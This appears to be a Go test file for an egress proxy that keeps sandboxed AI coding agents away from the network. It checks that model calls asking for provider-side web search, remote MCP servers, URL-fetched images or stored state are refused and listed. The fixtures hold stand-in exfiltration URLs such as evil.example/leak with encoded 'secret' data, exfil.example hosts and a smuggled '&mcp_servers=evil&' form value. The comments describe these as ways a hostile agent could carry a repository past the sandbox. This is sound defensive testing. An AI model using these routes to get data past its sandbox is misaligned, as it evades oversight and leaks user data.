package egress_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/akira-bot/akira/internal/sandboxtest"
	"github.com/akira-bot/akira/runner/egress"
	"github.com/akira-bot/akira/runner/sandbox"
)

// scripted is a model provider that answers each whole request with what answer writes, and keeps
// the bodies it received whole; a body cut short is counted apart, since no provider acts on it.
type scripted struct {
	srv *httptest.Server

	mu     sync.Mutex
	bodies []string
	cut    int
}

func newScripted(t *testing.T, answer func(w http.ResponseWriter, r *http.Request, body []byte)) *scripted {
	t.Helper()
	p := &scripted{}
	p.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		p.mu.Lock()
		if err != nil {
			p.cut++
			p.mu.Unlock()
			return
		}
		p.bodies = append(p.bodies, string(body))
		p.mu.Unlock()
		answer(w, r, body)
	}))
	t.Cleanup(p.srv.Close)
	return p
}

func (p *scripted) received() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]string(nil), p.bodies...)
}

// plainAnswer answers every call as the API of its path does, stating 1000 input and 100 output
// tokens.
func plainAnswer(w http.ResponseWriter, r *http.Request, _ []byte) {
	w.Header().Set("Content-Type", "application/json")
	switch {
	case strings.HasSuffix(r.URL.Path, "/messages"):
		fmt.Fprint(w, `{"id":"msg_1","type":"message","role":"assistant","model":"m","content":[{"type":"text","text":"hi"}],"usage":{"input_tokens":1000,"output_tokens":100}}`)
	case strings.HasSuffix(r.URL.Path, "/chat/completions"):
		fmt.Fprint(w, `{"id":"c","object":"chat.completion","model":"m","choices":[{"index":0,"message":{"role":"assistant","content":"hi"}}],"usage":{"prompt_tokens":1000,"completion_tokens":100}}`)
	default:
		fmt.Fprint(w, `{"id":"resp_1","object":"response","status":"completed","model":"m","output":[],"usage":{"input_tokens":1000,"output_tokens":100}}`)
	}
}

// openTools opens a TCP session on the scripted provider whose profile allows tools and prices
// with tariff; maxCost is its cost budget.
func openTools(t *testing.T, protocol, base string, tools []string, tariff func(string) egress.Tariff, maxCost float64) *egress.Session {
	t.Helper()
	s, err := egress.New(egress.Config{}).Open(egress.SessionConfig{TCP: true, MaxCostUSD: maxCost, Model: &egress.Model{Protocol: protocol,
		BaseURL: base, Key: "sk-real", KeyVar: "K", BaseURLVar: "B", Model: "m", Price: price, ServerTools: tools, Tariff: tariff}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	return s
}

// post sends a model call through the session, its body of unknown length when chunked (as a
// client streaming its upload sends it), and returns the answer.
func post(t *testing.T, s *egress.Session, protocol, path, body string, chunked bool) (int, string) {
	t.Helper()
	req := modelRequest(t, s, protocol, path, body)
	if chunked {
		req.ContentLength, req.Body = -1, io.NopCloser(struct{ io.Reader }{strings.NewReader(body)})
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// base is where a scripted provider's endpoint is for a protocol, as an operator configures it.
func (p *scripted) base(protocol string) string {
	if protocol == egress.ProtocolOpenAI {
		return p.srv.URL + "/v1"
	}
	return p.srv.URL
}

// checkBodyRefusals checks that each call was answered as refused in the provider's error shape,
// naming why and the fix, and that the session's report lists each with the fix; and that none of
// them reached the provider whole.
func checkBodyRefusals(t *testing.T, s *egress.Session, p *scripted, protocol string, refused []refusedCall) {
	t.Helper()
	for _, c := range refused {
		code, body := post(t, s, protocol, c.path, c.body, c.chunked)
		var e struct {
			Error struct{ Type, Message string } `json:"error"`
		}
		if json.Unmarshal([]byte(body), &e); code != http.StatusForbidden || e.Error.Type != "permission_error" ||
			!strings.Contains(e.Error.Message, "akira egress proxy: POST "+c.path+" refused: ") || !strings.Contains(e.Error.Message, c.why) ||
			!strings.Contains(e.Error.Message, c.fix) {
			t.Errorf("%s: %d %s; want 403 refused naming %q and the fix %q", c.name, code, body, c.why, c.fix)
		}
	}
	for _, got := range p.received() {
		t.Errorf("the provider got a refused request whole: %.200s", got)
	}
	listed := s.Report().Blocked
	for _, c := range refused {
		found := false
		for _, b := range listed {
			found = found || b.Method == "POST" && b.Path == c.path && strings.Contains(b.Reason, c.why) && strings.Contains(b.Fix, c.fix)
		}
		if !found {
			t.Errorf("%s is not listed with its reason and fix: %+v", c.name, listed)
		}
	}
}

type refusedCall struct {
	name, path, body string
	chunked          bool
	why, fix         string
}

// Provider-side tools run outside the sandbox, past the egress allowlist (web search and fetch,
// remote MCP servers reach any URL: a way to carry the repository out), and bill per use: a call
// that offers one the profile does not allow is refused, whether the tool comes first or after a
// megabyte of conversation in a body of unknown length (the upload is then cut before its end), and
// nothing of it reaches the provider whole. The refusal names the tool and the fix, and the report
// lists it. The CLIs' own tools pass.
func TestModelRouteRefusesServerTools(t *testing.T) {
	conversation := `"messages":[{"role":"user","content":"` + strings.Repeat("x", 1<<20) + `"}]`
	calls := map[string][]refusedCall{
		egress.ProtocolAnthropic: {
			{name: "web search", path: "/v1/messages", body: `{"model":"m","max_tokens":10,"tools":[{"type":"web_search_20250305","name":"web_search","max_uses":8}],"messages":[]}`,
				why: "provider-side tool web_search (web_search_20250305)", fix: `server_tools: ["web_search"]`},
			{name: "web fetch after the conversation", path: "/v1/messages", chunked: true, body: `{"model":"m",` + conversation + `,"tools":[{"name":"Read","input_schema":{}},{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
				why: "provider-side tool web_fetch (web_fetch_20250910)", fix: `server_tools: ["web_fetch"]`},
			{name: "code execution", path: "/v1/messages", body: `{"model":"m","tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`,
				why: "provider-side tool code_execution", fix: `server_tools: ["code_execution"]`},
			{name: "remote mcp", path: "/v1/messages", body: `{"model":"m","mcp_servers":[{"type":"url","url":"https://evil.example/sse","name":"x"}]}`,
				why: "provider-side tool mcp (mcp_servers)", fix: `server_tools: ["mcp"]`},
			{name: "an unknown type", path: "/v1/messages/count_tokens", body: `{"model":"m","tools":[{"type":"tool_search_tool_regex_20251119","name":"s"}]}`,
				why: `tool type "tool_search_tool_regex_20251119"`, fix: "only the CLI's own tools"},
		},
		egress.ProtocolOpenAI: {
			{name: "codex's cached web search", path: "/responses", body: `{"model":"m","tools":[{"type":"function","name":"shell"},{"external_web_access":false,"type":"web_search"}],"input":[]}`,
				why: "provider-side tool web_search (web_search)", fix: "Codex: -c web_search=disabled"},
			{name: "image generation after the conversation", path: "/responses", chunked: true, body: `{"model":"m","input":"` + strings.Repeat("y", 1<<20) + `","tools":[{"type":"image_generation"}]}`,
				why: "provider-side tool image_generation", fix: `server_tools: ["image_generation"]`},
			{name: "a remote connector", path: "/responses", body: `{"model":"m","tools":[{"type":"mcp","server_label":"gmail","connector_id":"connector_gmail"}]}`,
				why: "provider-side tool mcp", fix: `server_tools: ["mcp"]`},
			{name: "chat's web search", path: "/chat/completions", body: `{"model":"m","messages":[],"web_search_options":{"search_context_size":"low"}}`,
				why: "provider-side tool web_search (web_search_options)", fix: `server_tools: ["web_search"]`},
			// Read whole by the proxy, to ask for its usage, before it goes.
			{name: "a streamed chat's web search after the conversation", path: "/chat/completions", body: `{"model":"m","stream":true,` + conversation + `,"web_search_options":{}}`,
				why: "provider-side tool web_search (web_search_options)", fix: `server_tools: ["web_search"]`},
		},
	}
	plain := map[string][]string{
		egress.ProtocolAnthropic: {`{"model":"m","tools":[{"name":"Bash","description":"d","input_schema":{"type":"object"}},{"type":"bash_20250124","name":"bash"}],"messages":[]}`},
		egress.ProtocolOpenAI:    {`{"model":"m","tools":[{"type":"function","name":"shell","parameters":{}},{"type":"custom","name":"apply_patch"},{"type":"namespace","name":"n","tools":[{"type":"function","name":"f"}]}],"input":[]}`},
	}
	for _, protocol := range []string{egress.ProtocolAnthropic, egress.ProtocolOpenAI} {
		t.Run(protocol, func(t *testing.T) {
			p := newScripted(t, plainAnswer)
			s := openTools(t, protocol, p.base(protocol), nil, nil, 0)
			checkBodyRefusals(t, s, p, protocol, calls[protocol])
			path := "/v1/messages"
			if protocol == egress.ProtocolOpenAI {
				path = "/responses"
			}
			if code, answer := post(t, s, protocol, path, plain[protocol][0], false); code != http.StatusOK {
				t.Errorf("the CLI's own tools: %d %s", code, answer)
			}
			if got := p.received(); len(got) != 1 || got[0] != plain[protocol][0] {
				t.Errorf("the provider got %d requests, want the one with the CLI's own tools, as sent", len(got))
			}
		})
	}
}

// An allowed server tool's uses are metered from what the answers state (Anthropic's
// usage.server_tool_use, streamed or not; the web_search_call items of a Responses answer) and
// priced per use: the table's price when it has one, else the provider's list price (Anthropic's
// web search, $0.01). The report counts the uses and the cost holds them; nothing is an estimate.
func TestModelRouteMetersServerTools(t *testing.T) {
	anthropic := newScripted(t, func(w http.ResponseWriter, r *http.Request, body []byte) {
		usage := map[string]any{"input_tokens": 1000, "output_tokens": 100, "server_tool_use": map[string]any{"web_search_requests": 3, "web_fetch_requests": 2}}
		if !strings.Contains(string(body), `"stream":true`) {
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(map[string]any{"id": "msg_1", "type": "message", "model": "m", "content": []any{}, "usage": usage})
			return
		}
		w.Header().Set("Content-Type", "text/event-stream")
		event(w, "message_start", map[string]any{"type": "message_start", "message": map[string]any{"id": "msg_1", "model": "m",
			"usage": map[string]any{"input_tokens": 1000, "output_tokens": 1, "server_tool_use": map[string]any{"web_search_requests": 0}}}})
		event(w, "content_block_start", map[string]any{"type": "content_block_start", "index": 0, "content_block": map[string]any{"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search"}})
		event(w, "message_delta", map[string]any{"type": "message_delta", "delta": map[string]any{"stop_reason": "end_turn"}, "usage": usage})
		event(w, "message_stop", map[string]any{"type": "message_stop"})
	})
	s := openTools(t, egress.ProtocolAnthropic, anthropic.base(egress.ProtocolAnthropic), []string{"web_search", "web_fetch"},
		func(model string) egress.Tariff { return egress.Tariff{PerUse: map[string]float64{"web_fetch": 0.005}} }, 0)
	tools := `"tools":[{"type":"web_search_20250305","name":"web_search"},{"type":"web_fetch_20250910","name":"web_fetch"}]`
	for _, body := range []string{`{"model":"m",` + tools + `}`, `{"model":"m","stream":true,` + tools + `}`} {
		if code, answer := post(t, s, egress.ProtocolAnthropic, "/v1/messages", body, false); code != http.StatusOK {
			t.Fatalf("%d %s", code, answer)
		}
	}
	rep := s.Close()
	tokens, _ := price("m", egress.Tokens{Input: 2000, Output: 200})
	if want := tokens + 2*(3*0.01+2*0.005); rep.Calls != 2 || rep.Estimated || math.Abs(rep.CostUSD-want) > 1e-9 ||
		rep.ToolUses["web_search"] != 6 || rep.ToolUses["web_fetch"] != 4 {
		t.Errorf("report = %+v; want 2 calls of 3 searches and 2 fetches, costing $%.4f, measured", rep, want)
	}

	openai := newScripted(t, func(w http.ResponseWriter, r *http.Request, body []byte) {
		resp := map[string]any{"id": "resp_1", "object": "response", "status": "completed", "model": "m",
			"output": []any{map[string]any{"type": "web_search_call", "id": "ws_1", "status": "completed"}, map[string]any{"type": "web_search_call", "id": "ws_2"},
				map[string]any{"type": "message", "content": []any{}}},
			"usage": map[string]any{"input_tokens": 1000, "output_tokens": 100}}
		if !strings.Contains(string(body), `"stream":true`) {
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(resp)
			return
		}
		w.Header().Set("Content-Type", "text/event-stream")
		event(w, "response.output_item.done", map[string]any{"type": "response.output_item.done", "item": map[string]any{"type": "web_search_call", "id": "ws_1"}})
		event(w, "response.completed", map[string]any{"type": "response.completed", "response": resp})
	})
	s = openTools(t, egress.ProtocolOpenAI, openai.base(egress.ProtocolOpenAI), []string{"web_search"},
		func(model string) egress.Tariff {
			return egress.Tariff{PerUse: map[string]float64{"web_search": 0.025}}
		}, 1)
	for _, body := range []string{`{"model":"m","tools":[{"type":"web_search"}]}`, `{"model":"m","stream":true,"tools":[{"type":"web_search"}]}`} {
		if code, answer := post(t, s, egress.ProtocolOpenAI, "/responses", body, false); code != http.StatusOK {
			t.Fatalf("%d %s", code, answer)
		}
	}
	rep = s.Close()
	if want := tokens + 2*2*0.025; rep.Calls != 2 || rep.Estimated || math.Abs(rep.CostUSD-want) > 1e-9 || rep.ToolUses["web_search"] != 4 {
		t.Errorf("report = %+v; want 2 calls of 2 searches, costing $%.4f, measured", rep, want)
	}
}

// An allowed tool whose uses the answers do not state (code execution bills by container time),
// or that the table has no price for, cannot be metered: its calls are estimates, or, under a cost
// budget, refused before the provider has them.
func TestModelRouteUnmeteredServerTools(t *testing.T) {
	for _, budget := range []float64{0, 5} {
		p := newScripted(t, plainAnswer)
		s := openTools(t, egress.ProtocolAnthropic, p.base(egress.ProtocolAnthropic), []string{"code_execution"}, nil, budget)
		code, answer := post(t, s, egress.ProtocolAnthropic, "/v1/messages", `{"model":"m","tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`, false)
		rep := s.Close()
		switch {
		case budget == 0 && (code != http.StatusOK || rep.Calls != 1 || !rep.Estimated):
			t.Errorf("without a budget: %d %s, report %+v; want the call through, its cost an estimate", code, answer, rep)
		case budget > 0 && (code != http.StatusForbidden || !strings.Contains(answer, "under a cost budget") || len(p.received()) != 0 || rep.Calls != 0):
			t.Errorf("under a budget: %d %s, the provider got %d; want it refused before the provider has it", code, answer, len(p.received()))
		}
	}
}

// A service tier other than the standard one costs more (OpenAI's priority) or less (flex) than
// the table's token prices: a call that asks for one the table has no price for is refused; one
// the table prices is priced at it, as the answer states it ran; an answer that states a tier the
// table has no price for (a project whose default is priority) is priced at the standard price,
// as an estimate.
func TestModelRouteServiceTiers(t *testing.T) {
	p := newScripted(t, func(w http.ResponseWriter, r *http.Request, body []byte) {
		var req struct {
			Tier string `json:"service_tier"`
		}
		json.Unmarshal(body, &req)
		tier := map[string]string{"": "default", "auto": "priority"}[req.Tier]
		if tier == "" {
			tier = req.Tier
		}
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"id":"resp_1","object":"response","model":"m","service_tier":%q,"output":[],"usage":{"input_tokens":1000,"output_tokens":100}}`, tier)
	})
	flex := egress.TierPrice{InputPerMTok: 1, OutputPerMTok: 4}
	s := openTools(t, egress.ProtocolOpenAI, p.base(egress.ProtocolOpenAI), nil,
		func(model string) egress.Tariff {
			return egress.Tariff{Tiers: map[string]egress.TierPrice{"flex": flex}}
		}, 0)
	checkBodyRefusals(t, s, p, egress.ProtocolOpenAI, []refusedCall{
		{name: "priority", path: "/responses", body: `{"model":"m","service_tier":"priority","input":"hi"}`,
			why: `service tier "priority" has no price for model "m"`, fix: `{"m": {tiers: {priority: {input_per_mtok`},
	})
	for _, tier := range []string{`"flex"`, `null`} {
		if code, answer := post(t, s, egress.ProtocolOpenAI, "/responses", `{"model":"m","service_tier":`+tier+`}`, false); code != http.StatusOK {
			t.Errorf("service_tier %s: %d %s", tier, code, answer)
		}
	}
	if rep := s.Report(); rep.Estimated || math.Abs(rep.CostUSD-(1000*1+100*4)/1e6-(1000*3+100*15)/1e6) > 1e-12 {
		t.Errorf("report = %+v; want a call at flex's price and one at the standard price, measured", rep)
	}
	if code, answer := post(t, s, egress.ProtocolOpenAI, "/responses", `{"model":"m","service_tier":"auto"}`, false); code != http.StatusOK {
		t.Errorf("auto: %d %s", code, answer)
	}
	if rep := s.Close(); rep.EstimatedCalls != 1 || math.Abs(rep.CostUSD-(1000*1+100*4)/1e6-2*(1000*3+100*15)/1e6) > 1e-12 {
		t.Errorf("report = %+v; want the call that ran at priority priced at the standard price, as an estimate", rep)
	}
}

// What the provider stores and reads back by id (a previous response, a conversation, a stored
// prompt, an item or a file given by id) would carry data from one run into another, past every
// fence; what it fetches by URL (an image, a document) reaches the web from outside the sandbox:
// such calls are refused, none reaches the provider, each is listed with what to do instead.
// Storing (store: true) passes: nothing the route forwards reads it back. Inline content passes.
func TestModelRouteRefusesStoredStateAndFetchedURLs(t *testing.T) {
	for protocol, calls := range map[string][]refusedCall{
		egress.ProtocolOpenAI: {
			{name: "previous response", path: "/responses", body: `{"model":"m","previous_response_id":"resp_0123","input":"go on"}`, why: "previous_response_id: state stored at the provider", fix: "send the whole conversation"},
			{name: "conversation", path: "/responses", body: `{"model":"m","conversation":"conv_0123","input":"go on"}`, why: "conversation: state stored", fix: "send the whole conversation"},
			{name: "item reference", path: "/responses", body: `{"model":"m","input":[{"type":"item_reference","id":"msg_0123"}]}`, why: "an item referred to by its id", fix: "send the whole conversation"},
			{name: "image by url", path: "/responses", body: `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/leak?d=c2VjcmV0"}]}]}`, why: egress.ReasonFetchedURL, fix: "data: URL"},
			{name: "chat image by url", path: "/chat/completions", body: `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/x.png"}}]}]}`, why: egress.ReasonFetchedURL, fix: "data: URL"},
		},
		egress.ProtocolAnthropic: {
			{name: "document by url", path: "/v1/messages", body: `{"model":"m","messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://evil.example/a.pdf"}}]}]}`, why: egress.ReasonFetchedURL, fix: "base64"},
			{name: "stored file", path: "/v1/messages", body: `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"file","file_id":"file_0123"}}]}]}`, why: "a file referred to by its id", fix: "send the whole conversation"},
		},
	} {
		t.Run(protocol, func(t *testing.T) {
			p := newScripted(t, plainAnswer)
			s := openTools(t, protocol, p.base(protocol), nil, nil, 0)
			checkBodyRefusals(t, s, p, protocol, calls)
			inline := map[string]string{
				egress.ProtocolOpenAI:    `{"model":"m","store":true,"previous_response_id":null,"input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,iVBORw0KGgo="}]}]}`,
				egress.ProtocolAnthropic: `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}]}]}`,
			}[protocol]
			path := map[string]string{egress.ProtocolOpenAI: "/responses", egress.ProtocolAnthropic: "/v1/messages"}[protocol]
			if code, answer := post(t, s, protocol, path, inline, false); code != http.StatusOK || len(p.received()) != 1 {
				t.Errorf("inline content, stored: %d %s", code, answer)
			}
		})
	}
}

// Codex first asks for the Responses API over a WebSocket, which the route refuses (what passes
// over it could not be metered): the answer is the one Codex falls back to HTTP on, and the try is
// listed in the attempt's report, as every refusal is.
func TestModelRouteListsWebSockets(t *testing.T) {
	p := newScripted(t, plainAnswer)
	s := openTools(t, egress.ProtocolOpenAI, p.base(egress.ProtocolOpenAI), nil, nil, 0)
	req, _ := http.NewRequest(http.MethodGet, "http://"+s.Addr()+egress.ModelPath+"/responses", nil)
	req.Header.Set("Authorization", "Bearer "+s.Placeholder())
	req.Header.Set("Connection", "Upgrade")
	req.Header.Set("Upgrade", "websocket")
	req.Header.Set("Sec-WebSocket-Version", "13")
	req.Header.Set("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotImplemented {
		t.Errorf("status %d, want 501 (on which Codex falls back to HTTP)", resp.StatusCode)
	}
	rep := s.Close()
	if len(rep.Blocked) != 1 || rep.Blocked[0].Method != "GET" || rep.Blocked[0].Path != "/responses" || rep.Blocked[0].Reason != egress.ReasonWebSocket {
		t.Errorf("report lists %+v; want the WebSocket try on GET /responses", rep.Blocked)
	}
	if len(p.received()) != 0 {
		t.Errorf("the provider got %q", p.received())
	}
}

// anyName resolves every name to one address.
type anyName netip.Addr

func (a anyName) LookupNetIP(context.Context, string, string) ([]netip.Addr, error) {
	return []netip.Addr{netip.Addr(a)}, nil
}

// An agent chooses the names it tries: the proxy's metrics, kept for the worker's whole life, and a
// session's report count a bounded number of destinations apart and the rest together, so that a
// hostile agent cannot grow them without end. Every request is still counted.
func TestProxyCountsBounded(t *testing.T) {
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "ok") }))
	t.Cleanup(up.Close)
	port := up.Listener.Addr().(*net.TCPAddr).Port
	p := egress.New(egress.Config{Resolver: anyName(netip.MustParseAddr("127.0.0.1"))})
	s, err := p.Open(egress.SessionConfig{TCP: true, Allow: egress.MustAllowlist(fmt.Sprintf("*.akira.test:%d", port), fmt.Sprintf("127.0.0.1:%d", port))})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	client := proxied(t, s)
	get := func(url string) int {
		resp, err := client.Get(url)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp.StatusCode
	}
	const refusedNames, allowedNames = 1500, 400
	for i := range refusedNames {
		if code := get(fmt.Sprintf("http://n%d.exfil.example/", i)); code != http.StatusForbidden {
			t.Fatalf("an unlisted name: %d", code)
		}
	}
	for i := range allowedNames {
		if code := get(fmt.Sprintf("http://n%d.akira.test:%d/", i, port)); code != http.StatusOK {
			t.Fatalf("an allowed name: %d", code)
		}
	}
	sum := func(m map[string]int64) (n int64) {
		for _, v := range m {
			n += v
		}
		return n
	}
	_, refused := p.Counts()
	if len(refused) >= refusedNames || sum(refused) != refusedNames {
		t.Errorf("the proxy's metrics count %d refused destinations apart, %d requests; want fewer than the %d names tried, and every request",
			len(refused), sum(refused), refusedNames)
	}
	rep := s.Report()
	if len(rep.Allowed) >= allowedNames || sum(rep.Allowed) != allowedNames {
		t.Errorf("the session's report counts %d allowed hosts apart, %d requests; want fewer than the %d names, and every request",
			len(rep.Allowed), sum(rep.Allowed), allowedNames)
	}
}

// Through the real sandbox: an agent's curl offers the model a provider-side web search (first in
// its body, and after a megabyte of conversation), asks for an image by URL, for a priority tier
// and for a previous response; each is refused with the proxy's message, nothing of them reaches
// the model server whole, and the session's report lists each with what would allow it. A plain
// call in the same sandbox goes through and is metered.
func TestServerToolsRefusedThroughTheSandbox(t *testing.T) {
	sandboxtest.Require(t)
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("needs curl")
	}
	p := newScripted(t, plainAnswer)
	proxy := egress.New(egress.Config{Dir: t.TempDir()})
	model := &egress.Model{Protocol: egress.ProtocolAnthropic, BaseURL: p.srv.URL, Key: "sk-ant-real", KeyEnv: "ANTHROPIC_API_KEY",
		KeyVar: "ANTHROPIC_API_KEY", BaseURLVar: "ANTHROPIC_BASE_URL", Model: "m", Price: price}
	sess, err := proxy.Open(egress.SessionConfig{Model: model})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sess.Close() })
	work := t.TempDir()
	bodies := map[string]string{
		"search":       `{"model":"m","max_tokens":64,"tools":[{"type":"web_search_20250305","name":"web_search","max_uses":8}],"messages":[{"role":"user","content":"look it up"}]}`,
		"search-late":  `{"model":"m","max_tokens":64,"messages":[{"role":"user","content":"` + strings.Repeat("z", 1<<20) + `"}],"tools":[{"name":"Read","input_schema":{}},{"type":"web_search_20250305","name":"web_search"}]}`,
		"image-by-url": `{"model":"m","max_tokens":64,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/leak.png?d=c2VjcmV0"}}]}]}`,
		"priority":     `{"model":"m","max_tokens":64,"service_tier":"priority","messages":[{"role":"user","content":"hi"}]}`,
		"plain":        `{"model":"m","max_tokens":64,"messages":[{"role":"user","content":"hi"}]}`,
	}
	var script strings.Builder
	for name, body := range bodies {
		if err := os.WriteFile(filepath.Join(work, name+".json"), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&script, "curl -s -o %[1]s.out -w '%%{http_code}\\n' -H \"x-api-key: $ANTHROPIC_API_KEY\" -H 'content-type: application/json' "+
			"-H 'transfer-encoding: chunked' --data-binary @%[1]s.json \"$ANTHROPIC_BASE_URL/v1/messages\" > %[1]s.code\n", name)
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	pol := sandbox.Policy{Mode: sandbox.Bubblewrap, Network: sandbox.NetAllowlist, WorkTree: work,
		Egress: &sandbox.Egress{Socket: sess.Socket(), Forwarder: exe, Env: sess.Env(), Strip: []string{model.KeyEnv}}}
	argv, env, err := pol.Command([]string{"sh", "-c", script.String()}, os.Environ())
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	cmd.Env, cmd.Dir = env, work
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("the script did not run: %v\n%s", err, out)
	}
	rep := sess.Close()
	for name := range bodies {
		code := strings.TrimSpace(string(mustRead(t, filepath.Join(work, name+".code"))))
		answer := string(mustRead(t, filepath.Join(work, name+".out")))
		if name == "plain" {
			if code != "200" {
				t.Errorf("the plain call: %s %s", code, answer)
			}
			continue
		}
		if code != "403" || !strings.Contains(answer, "akira egress proxy: POST /v1/messages refused: ") {
			t.Errorf("%s: %s %s; want the proxy's refusal", name, code, answer)
		}
	}
	if got := p.received(); len(got) != 1 || got[0] != bodies["plain"] {
		t.Errorf("the model server got %d requests whole, want only the plain one", len(got))
	}
	for _, want := range []struct {
		why, fix string
		count    int
	}{
		{"provider-side tool web_search (web_search_20250305)", `server_tools: ["web_search"]`, 2},
		{egress.ReasonFetchedURL, "data: URL", 1},
		{`service tier "priority" has no price for model "m"`, "tiers: {priority", 1},
	} {
		if !slices.ContainsFunc(rep.Blocked, func(b egress.Blocked) bool {
			return strings.Contains(b.Reason, want.why) && strings.Contains(b.Fix, want.fix) && b.Count == want.count
		}) {
			t.Errorf("the report does not list %q (%d times) with the fix %q: %+v", want.why, want.count, want.fix, rep.Blocked)
		}
	}
	if rep.Calls != 1 || rep.Tokens.Input != 1000 {
		t.Errorf("report = %+v; want the plain call metered", rep)
	}
}

// curl -d declares its body a form. The scanner reads every body as JSON, and so must the provider:
// a body declared a form goes out declared JSON, so that no server reads its strings as form fields
// (a "&tools=…&" inside a JSON string would be one). A compressed body, which the scanner cannot
// read as it passes, is refused.
func TestModelRouteSendsBodiesAsJSON(t *testing.T) {
	var mu sync.Mutex
	var types []string
	p := newScripted(t, func(w http.ResponseWriter, r *http.Request, body []byte) {
		mu.Lock()
		types = append(types, r.Header.Get("Content-Type"))
		mu.Unlock()
		plainAnswer(w, r, body)
	})
	s := openTools(t, egress.ProtocolAnthropic, p.base(egress.ProtocolAnthropic), nil, nil, 0)
	req := modelRequest(t, s, egress.ProtocolAnthropic, "/v1/messages", `{"model":"m","metadata":{"user_id":"&mcp_servers=evil&"}}`)
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	req = modelRequest(t, s, egress.ProtocolAnthropic, "/v1/messages", `{"model":"m"}`)
	req.Header.Set("Content-Encoding", "br")
	compressed, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, compressed.Body)
	compressed.Body.Close()
	mu.Lock()
	defer mu.Unlock()
	if resp.StatusCode != http.StatusOK || len(types) != 1 || types[0] != "application/json" {
		t.Errorf("a body declared a form: %d, the provider got it as %q; want it declared application/json", resp.StatusCode, types)
	}
	if compressed.StatusCode != http.StatusUnsupportedMediaType {
		t.Errorf("a compressed body: %d, want 415", compressed.StatusCode)
	}
}
